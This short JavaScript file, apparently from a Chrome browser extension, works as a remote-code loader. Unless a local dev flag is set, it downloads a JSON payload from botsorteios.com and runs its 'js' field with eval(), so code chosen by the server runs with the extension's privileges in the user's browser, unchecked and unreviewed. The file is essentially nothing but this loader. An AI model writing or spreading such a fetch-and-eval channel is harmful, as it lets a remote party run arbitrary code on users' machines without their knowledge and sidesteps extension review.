// Eval code after dev status check
var autoLogin = null;
function getCode() {
  $.get(chrome.runtime.getURL('dev.json'), function (data) {
    console.log('Handling dev or user code')
    1 == data.isDev
      ? $.get(chrome.runtime.getURL('dev.js'))
      : $.get(
          'https://botsorteios.com/app/source/?main=true&time=' +
            Date.now() +
            '&extension=' +
            chrome.runtime.getManifest().version,
          function (data) {
            eval(JSON.parse(data).js);
          }
        );
  });
}
getCode();
setTimeout(() => {
  clearInterval(autoLogin);
}, 10000);
